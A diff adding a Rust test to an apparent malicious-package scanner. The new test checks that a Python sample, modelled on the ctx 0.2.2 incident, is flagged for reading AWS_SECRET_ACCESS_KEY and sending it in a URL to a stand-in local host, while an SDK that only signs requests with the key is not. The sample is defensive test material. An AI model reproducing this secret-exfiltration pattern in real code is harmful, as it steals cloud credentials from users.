@@ -812,3 +812,16 @@ fn a_web_route_that_runs_the_command_it_is_sent_is_malicious() {
     let r = sdist(&[("setup.py", SETUP), ("pkg/tools.py", fixed)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn an_environment_secret_kept_on_self_and_sent_by_another_method_is_malicious() {
+    // ctx 0.2.2: __init__ keeps AWS_SECRET_ACCESS_KEY on self, another
+    // method puts it in a URL.
+    let module = "import requests\nfrom os import environ\n\nclass Ctx(dict):\n    def __init__(self):\n        self.secret = environ.get('AWS_SECRET_ACCESS_KEY')\n        self.send()\n\n    def send(self):\n        requests.get('http://127.0.0.1:9/h/' + self.secret)\n";
+    let r = sdist(&[("setup.py", SETUP), ("ctx.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // An SDK that keeps the secret to sign requests does not put it in them.
+    let sdk = "import hmac, requests\nfrom os import environ\n\nclass Client:\n    def __init__(self):\n        self.secret = environ.get('AWS_SECRET_ACCESS_KEY')\n\n    def call(self, body):\n        sig = hmac.new(self.secret.encode(), body, 'sha256').hexdigest()\n        requests.post('http://127.0.0.1:9/api', data=body, headers={'X-Signature': sig})\n";
+    let r = sdist(&[("setup.py", SETUP), ("client.py", sdk)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
